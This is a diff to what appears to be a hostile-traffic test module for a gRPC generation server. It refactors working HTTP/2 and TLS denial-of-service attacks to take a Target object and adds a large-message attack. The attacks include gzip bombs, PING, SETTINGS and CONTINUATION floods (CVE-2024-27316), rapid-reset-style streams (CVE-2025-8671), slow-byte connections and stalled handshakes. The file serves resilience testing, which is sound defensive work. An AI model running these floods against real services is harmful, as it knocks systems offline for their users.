@@ -1,5 +1,5 @@
-"""Attacks on what a server holds: memory, engine starts, places in its tables. Each talks to an address, bounded by a
-count, and returns how many things it did. `key` is an API key of the attacker where it needs one.
+"""Attacks on what a server holds: memory, engine starts, places in its tables. Each talks to a target, bounded by a
+count, and returns how many things it did.
 """
 
 from __future__ import annotations
@@ -11,8 +11,10 @@ import time
 import zlib
 from collections.abc import Callable, Sequence
 from contextlib import closing, suppress
+from dataclasses import dataclass
 
 from penstock.config import ServerSettings
+from penstock_client.v1 import generation_pb2 as pb
 
 from tests.hostile.attacks import question
 from tests.hostile.frames import (
@@ -36,7 +38,17 @@ from tests.hostile.frames import (
     message,
 )
 
-Held = Callable[[str, int, str], int]
+
+@dataclass(frozen=True, slots=True)
+class Target:
+    """Whom an attack is on. `key` is an API key of the attacker, `message_bytes` what a message may have."""
+
+    address: str
+    key: str
+    message_bytes: int
+
+
+Held = Callable[[Target, int], int]
 WATCH, CHECK = "/grpc.health.v1.Health/Watch", "/grpc.health.v1.Health/Check"
 COUNT_TOKENS = "/penstock.v1.GenerationService/CountTokens"
 STREAM = "/penstock.v1.GenerationService/StreamGenerate"
@@ -70,10 +82,10 @@ def gzipped(size: int) -> bytes:
     return struct.pack(">BI", 1, len(packed)) + packed
 
 
-def gzipped_names(address: str, count: int, _key: str) -> int:
-    """Names of services of 4 MiB, which are 4 KiB on the wire, for Watch to keep."""
-    body = gzipped(4 * _MIB - 64)
-    with closing(greeted(address)) as wire:
+def gzipped_names(target: Target, count: int) -> int:
+    """Names of services as large as a message may be, a thousandth of that on the wire, for Watch to keep."""
+    body = gzipped(target.message_bytes - 64)
+    with closing(greeted(target.address)) as wire:
         for _ in range(count):
             head = call_headers(path=WATCH, more=[(b"grpc-encoding", b"gzip")])
             stream = wire.stream()
@@ -83,16 +95,16 @@ def gzipped_names(address: str, count: int, _key: str) -> int:
     return count
 
 
-def gzip_bombs(address: str, count: int, key: str) -> int:
+def gzip_bombs(target: Target, count: int) -> int:
     """Messages of 2 MiB that unpack to 2 GiB, from a caller who may send messages."""
     packer = zlib.compressobj(9, zlib.DEFLATED, 31)
     zeros = bytes(_MIB)
     packed = b"".join(packer.compress(zeros) for _ in range(2048)) + packer.flush()
     body = struct.pack(">BI", 1, len(packed)) + packed
     for _ in range(count):
-        with closing(greeted(address)) as wire:
+        with closing(greeted(target.address)) as wire:
             stream = wire.stream()
-            more = [*bearer(key), (b"grpc-encoding", b"gzip")]
+            more = [*bearer(target.key), (b"grpc-encoding", b"gzip")]
             wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=more)))
             _pour(wire, stream, body, 5)
             wire.drain(0.2)
@@ -115,9 +127,9 @@ def _pour(wire: Wire, stream: int, body: bytes, seconds: float) -> None:
                 return
 
 
-def small_fields(address: str, count: int, _key: str) -> int:
+def small_fields(target: Target, count: int) -> int:
     """Header blocks of a few hundred bytes that are hundreds of fields, each kept as long as its Watch."""
-    with closing(greeted(address)) as wire:
+    with closing(greeted(target.address)) as wire:
         for _ in range(count):
             stream = wire.stream()
             block = call_headers(path=WATCH) + literal(b"a", b"", indexed=True) + b"\xbe" * 330
@@ -128,10 +140,10 @@ def small_fields(address: str, count: int, _key: str) -> int:
     return count
 
 
-def settings_storm(address: str, count: int, _key: str) -> int:
+def settings_storm(target: Target, count: int) -> int:
     """SETTINGS of 2,700 entries that move the windows of a few hundred open streams."""
     entries = b"".join(struct.pack(">HI", 4, 65535 - n % 2) for n in range(2700))
-    with closing(greeted(address)) as wire:
+    with closing(greeted(target.address)) as wire:
         for _ in range(300):
             wire.send(frame(HEADERS, END_HEADERS, wire.stream(), call_headers(path=WATCH)))
         for _ in range(count):
@@ -140,24 +152,24 @@ def settings_storm(address: str, count: int, _key: str) -> int:
     return count
 
 
-def provoked_resets(address: str, count: int, key: str) -> int:
+def provoked_resets(target: Target, count: int) -> int:
     """Calls that start the engine, and then a frame that makes the server reset the stream (CVE-2025-8671)."""
-    return _start_and_end(address, count, key, lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)))
+    return _start_and_end(target, count, lambda stream: frame(WINDOW_UPDATE, 0, stream, bytes(4)))
 
 
-def started_and_reset(address: str, count: int, key: str) -> int:
+def started_and_reset(target: Target, count: int) -> int:
     """Calls that start the engine, cancelled a moment later."""
-    return _start_and_end(address, count, key, lambda stream: frame(RST, 0, stream, _CANCEL))
+    return _start_and_end(target, count, lambda stream: frame(RST, 0, stream, _CANCEL))
 
 
-def _start_and_end(address: str, count: int, key: str, end: Callable[[int], bytes]) -> int:
+def _start_and_end(target: Target, count: int, end: Callable[[int], bytes]) -> int:
     body, sent = question(), 0
-    wire = greeted(address)
+    wire = greeted(target.address)
     while sent < count:
         if wire.is_cut:
             wire.close()
-            wire = greeted(address)
-        streams = [wire.call(body, path=STREAM, more=bearer(key)) for _ in range(32)]
+            wire = greeted(target.address)
+        streams = [wire.call(body, path=STREAM, more=bearer(target.key)) for _ in range(32)]
         _until_answered(wire, 8, 1.0)
         wire.send(*(end(stream) for stream in streams))
         sent += len(streams)
@@ -172,9 +184,9 @@ def _until_answered(wire: Wire, count: int, seconds: float) -> None:
         count -= sum(kind == HEADERS for kind, *_ in frames(wire.drain(0.01)))
 
 
-def refusals_unread(address: str, count: int, _key: str) -> int:
+def refusals_unread(target: Target, count: int) -> int:
     """Calls that are refused, from a client that takes nothing from its socket."""
-    with closing(greeted(address)) as wire:
+    with closing(greeted(target.address)) as wire:
         wire.socket.settimeout(2)
         for sent in range(count):
             wire.call(question(), path=STREAM)
@@ -184,14 +196,14 @@ def refusals_unread(address: str, count: int, _key: str) -> int:
     return count
 
 
-def half_messages(address: str, count: int, key: str) -> int:
-    """Requests that claim 4 MiB, send some of it, and are given up by a reset or with their connection."""
+def half_messages(target: Target, count: int) -> int:
+    """Requests that claim as much as a message may have, send some of it, and are reset or vanish."""
     for number in range(0, count, 50):
-        with closing(greeted(address)) as wire:
+        with closing(greeted(target.address)) as wire:
             for _ in range(min(50, count - number)):
                 stream = wire.stream()
-                head = frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(key)))
-                wire.send(head, frame(DATA, 0, stream, message(bytes(1000), claimed_bytes=4 * _MIB - 1)))
+                head = frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(target.key)))
+                wire.send(head, frame(DATA, 0, stream, message(bytes(1000), claimed_bytes=target.message_bytes - 1)))
                 if stream % 4 == 1:
                     wire.send(frame(RST, 0, stream, _CANCEL))
             wire.drain(0.05)
@@ -200,29 +212,74 @@ def half_messages(address: str, count: int, key: str) -> int:
     return count
 
 
-def bodies_without_end(address: str, count: int, _key: str) -> int:
-    """Health checks that claim 4 MiB and send nearly all of it."""
-    with closing(greeted(address)) as wire:
+def bodies_without_end(target: Target, count: int) -> int:
+    """Health checks that claim as much as a message may have, and send half of it."""
+    with closing(greeted(target.address)) as wire:
         for _ in range(count):
             stream = wire.stream()
             wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=CHECK)))
-            _pour(wire, stream, message(bytes(2 * _MIB), claimed_bytes=4 * _MIB - 1), 0.2)
+            _pour(
+                wire,
+                stream,
+                message(bytes(target.message_bytes // 2), claimed_bytes=target.message_bytes - 1),
+                _seconds(target),
+            )
     return count
 
 
-def calls_without_bodies(address: str, count: int, key: str) -> int:
+def _seconds(target: Target) -> float:
+    """Long enough to send half a message."""
+    return 0.2 * target.message_bytes / (4 * _MIB)
+
+
+def large_messages(target: Target, count: int) -> int:
+    """Requests as large as a message may be, 16 at once, from a caller who may send them."""
+    text = b"x " * ((target.message_bytes - 1024) // 2)
+    spec = pb.GenerationSpec(messages=pb.Messages(messages=[pb.Message(role=pb.ROLE_USER, content=text)]))
+    body = message(pb.CountTokensRequest(spec=spec).SerializeToString())
+    for _ in range(0, count, 16):
+        with closing(greeted(target.address)) as wire:
+            head = call_headers(path=COUNT_TOKENS, more=bearer(target.key))
+            streams = [wire.stream() for _ in range(16)]
+            wire.send(*(frame(HEADERS, END_HEADERS, stream, head) for stream in streams))
+            _pour_all(wire, streams, body, 20)
+    return count
+
+
+def _pour_all(wire: Wire, streams: Sequence[int], body: bytes, seconds: float) -> None:
+    """Send the same body on each stream, as windows open, until all have ended or time is over."""
+    at, window, whole = dict.fromkeys(streams, 0), dict.fromkeys((0, *streams), 65535), memoryview(body)
+    until = time.monotonic() + seconds
+    while at and not wire.is_cut and time.monotonic() < until:
+        for stream, sent in at.items():
+            size = min(window[0], window[stream], len(body) - sent, 16_000)
+            if size > 0:
+                wire.send(
+                    frame(DATA, END_STREAM * (sent + size == len(body)), stream, bytes(whole[sent : sent + size]))
+                )
+                at[stream] = sent + size
+                window[0] -= size
+                window[stream] -= size
+        for kind, flags, of, payload in frames(wire.drain(0.001)):
+            if kind == WINDOW_UPDATE and of in window:
+                window[of] += int.from_bytes(payload, "big")
+            if kind == RST or (kind == HEADERS and flags & END_STREAM):
+                at.pop(of, None)
+
+
+def calls_without_bodies(target: Target, count: int) -> int:
     """Calls whose message never comes."""
-    with closing(greeted(address)) as wire:
+    with closing(greeted(target.address)) as wire:
         for _ in range(count):
             stream = wire.stream()
-            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(key))))
+            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(target.key))))
         wire.drain(3)
     return count
 
 
-def no_messages(address: str, count: int, _key: str) -> int:
+def no_messages(target: Target, count: int) -> int:
     """Health checks whose bytes are no message."""
-    with closing(greeted(address)) as wire:
+    with closing(greeted(target.address)) as wire:
         for number in range(count):
             wire.call(b"\xff" * 20, path=CHECK)
             if number % 64 == 0:
@@ -231,9 +288,9 @@ def no_messages(address: str, count: int, _key: str) -> int:
     return count
 
 
-def busy_connection(address: str, count: int, _key: str) -> int:
+def busy_connection(target: Target, count: int) -> int:
     """Health checks as fast as one connection takes them, answers read."""
-    with closing(greeted(address)) as wire:
+    with closing(greeted(target.address)) as wire:
         for number in range(count):
             wire.call(b"", path=CHECK)
             if number % 100 == 99:
@@ -242,42 +299,42 @@ def busy_connection(address: str, count: int, _key: str) -> int:
     return count
 
 
-def stalled_readers(address: str, count: int, key: str) -> int:
+def stalled_readers(target: Target, count: int) -> int:
     """Streams that open no window: the caller is given up, what each stream holds stays until it ends."""
-    with closing(greeted(address, struct.pack(">HI", 4, 0))) as wire:
+    with closing(greeted(target.address, struct.pack(">HI", 4, 0))) as wire:
         for number in range(count):
-            wire.call(question("NORMAL"), path=STREAM, more=bearer(key))
+            wire.call(question("NORMAL"), path=STREAM, more=bearer(target.key))
             if number % 32 == 31:
                 wire.drain(0.2)
         wire.drain(5)
     return count
 
 
-def idle_connections(address: str, count: int, _key: str) -> int:
+def idle_connections(target: Target, count: int) -> int:
     """Connections that greet and then say nothing."""
-    wires = [Wire(address) for _ in range(count)]
+    wires = [Wire(target.address) for _ in range(count)]
     time.sleep(1)
     for wire in wires:
         wire.close()
     return count
 
 
-def watchers_that_do_not_read(address: str, count: int, _key: str) -> int:
+def watchers_that_do_not_read(target: Target, count: int) -> int:
     """Watch with closed windows: who watches must hold up neither other watchers nor the status."""
-    with closing(greeted(address, struct.pack(">HI", 4, 0))) as wire:
+    with closing(greeted(target.address, struct.pack(">HI", 4, 0))) as wire:
         for _ in range(count):
             wire.call(b"", path=WATCH)
         wire.drain(1)
     return count
 
 
-def more_calls_than_streams(address: str, count: int, key: str) -> int:
+def more_calls_than_streams(target: Target, count: int) -> int:
     """Calls on one connection beyond what it may have at once, none of which ends by itself."""
     refused = 0
-    with closing(greeted(address)) as wire:
+    with closing(greeted(target.address)) as wire:
         for number in range(count):
             stream = wire.stream()
-            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(key))))
+            wire.send(frame(HEADERS, END_HEADERS, stream, call_headers(path=COUNT_TOKENS, more=bearer(target.key))))
             if number % 100 == 99:
                 refused += _resets(wire.drain(0.005))
         refused += _resets(wire.drain(2))
@@ -289,32 +346,32 @@ def _resets(got: bytes) -> int:
     return sum(kind == RST for kind, *_ in frames(got))
 
 
-def ping_flood(address: str, count: int, _key: str) -> int:
+def ping_flood(target: Target, count: int) -> int:
     """Pings whose answers nobody reads, on connections one after the other: each is closed for it."""
-    return _flood(address, count, frame(PING, 0, 0, b"pingping"), 100, is_put_up_with=False)
+    return _flood(target, count, frame(PING, 0, 0, b"pingping"), 100, is_put_up_with=False)
 
 
-def settings_flood(address: str, count: int, _key: str) -> int:
+def settings_flood(target: Target, count: int) -> int:
     """SETTINGS of one entry each, whose answers nobody reads."""
-    return _flood(address, count, frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)), 100)
+    return _flood(target, count, frame(SETTINGS, 0, 0, struct.pack(">HI", 3, 100)), 100)
 
 
-def window_update_flood(address: str, count: int, _key: str) -> int:
+def window_update_flood(target: Target, count: int) -> int:
     """WINDOW_UPDATEs of one byte for the connection, and of streams that are not there."""
-    return _flood(address, count, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(RST, 0, 1, _CANCEL), 100)
+    return _flood(target, count, frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) + frame(RST, 0, 1, _CANCEL), 100)
 
 
-def continuation_flood(address: str, count: int, _key: str) -> int:
+def continuation_flood(target: Target, count: int) -> int:
     """Header blocks that never end: large fields, empty frames (CVE-2024-27316)."""
     fields = frame(CONTINUATION, 0, 1, literal(b"x-flood", b"y" * 16_000))
     start = frame(HEADERS, END_STREAM, 1, call_headers())
-    return _flood(address, count // 2, fields, 10, start) + _flood(
-        address, count - count // 2, frame(CONTINUATION, 0, 1), 100, start
+    return _flood(target, count // 2, fields, 10, start) + _flood(
+        target, count - count // 2, frame(CONTINUATION, 0, 1), 100, start
     )
 
 
 def _flood(
-    address: str, count: int, piece: bytes, at_once: int, start: bytes = b"", *, is_put_up_with: bool = True
+    target: Target, count: int, piece: bytes, at_once: int, start: bytes = b"", *, is_put_up_with: bool = True
 ) -> int:
     """Send a frame as often as asked, and read nothing; again from `start` on a new connection where one was closed.
 
@@ -322,7 +379,7 @@ def _flood(
     """
     sent = cut = 0
     while sent < count:
-        with closing(greeted(address)) as wire:
+        with closing(greeted(target.address)) as wire:
             wire.socket.settimeout(1)
             wire.send(start)
             while sent < count and not wire.is_cut:
@@ -334,12 +391,12 @@ def _flood(
     return sent
 
 
-def one_byte_a_second(address: str, count: int, key: str) -> int:
+def one_byte_a_second(target: Target, count: int) -> int:
     """Connections that send a byte each second: of their greeting, of a call's headers, of its message."""
-    head = frame(HEADERS, END_HEADERS, 1, call_headers(path=COUNT_TOKENS, more=bearer(key)))
+    head = frame(HEADERS, END_HEADERS, 1, call_headers(path=COUNT_TOKENS, more=bearer(target.key)))
     body = frame(DATA, END_STREAM, 1, message(question()))
     greeting = PREFACE + frame(SETTINGS)
-    wires = [Wire(address, greet=False) for _ in range(count)]
+    wires = [Wire(target.address, greet=False) for _ in range(count)]
     done = (b"", greeting + head[:10], greeting + head + body[:10])
     rest = [(greeting, head, body)[place % 3][10 * bool(place % 3) :] for place in range(count)]
     for place, wire in enumerate(wires):
@@ -373,22 +430,22 @@ def client_hello() -> bytes:
     return out.read()
 
 
-def half_handshakes(address: str, count: int, _key: str) -> int:
+def half_handshakes(target: Target, count: int) -> int:
     """TLS handshakes that stop: before the first byte, within the first message, before the client's last one."""
     hello = client_hello()
     for start in range(0, count, _CONNECTIONS_AT_ONCE):
-        wires = [Wire(address, greet=False) for _ in range(min(_CONNECTIONS_AT_ONCE, count - start))]
+        wires = [Wire(target.address, greet=False) for _ in range(min(_CONNECTIONS_AT_ONCE, count - start))]
         for place, wire in enumerate(wires):
             wire.send((b"", hello[: len(hello) // 2], hello)[place % 3])
         _until_cut(wires)
     return count
 
 
-def slow_handshakes(address: str, count: int, _key: str) -> int:
+def slow_handshakes(target: Target, count: int) -> int:
     """TLS handshakes whose first message comes byte by byte."""
     hello = client_hello()
     for start in range(0, count, _CONNECTIONS_AT_ONCE):
-        wires = [Wire(address, greet=False) for _ in range(min(_CONNECTIONS_AT_ONCE, count - start))]
+        wires = [Wire(target.address, greet=False) for _ in range(min(_CONNECTIONS_AT_ONCE, count - start))]
         for place in range(60):
             for wire in wires:
                 wire.send(hello[place : place + 1])
@@ -429,7 +486,10 @@ ATTACKS: dict[Held, tuple[int, int]] = {
     window_update_flood: (20_000, 1_000_000),
     continuation_flood: (2000, 100_000),
     one_byte_a_second: (60, 240),
+    large_messages: (32, 320),
 }
+BY_SIZE = (gzipped_names, gzip_bombs, half_messages, bodies_without_end, calls_without_bodies, large_messages)
+"""What these hold grows with how large a message may be."""
 TLS_ATTACKS: dict[Held, tuple[int, int]] = {
     half_handshakes: (150, 3000),
     slow_handshakes: (150, 1000),
@@ -440,16 +500,16 @@ TLS_ATTACKS: dict[Held, tuple[int, int]] = {
 class Beside:
     """Runs an attack on a thread, as often as asked, while its caller looks on."""
 
-    def __init__(self, attack: Held, address: str, count: int, key: str) -> None:
+    def __init__(self, attack: Held, target: Target, count: int) -> None:
         self._failure: Exception | None = None
         self.did = 0
-        self._work = (attack, address, count, key)
+        self._work = (attack, target, count)
         self._thread = threading.Thread(target=self._run)
 
     def _run(self) -> None:
-        attack, address, count, key = self._work
+        attack, target, count = self._work
         try:
-            self.did = attack(address, count, key)
+            self.did = attack(target, count)
         except Exception as failure:
             self._failure = failure
 
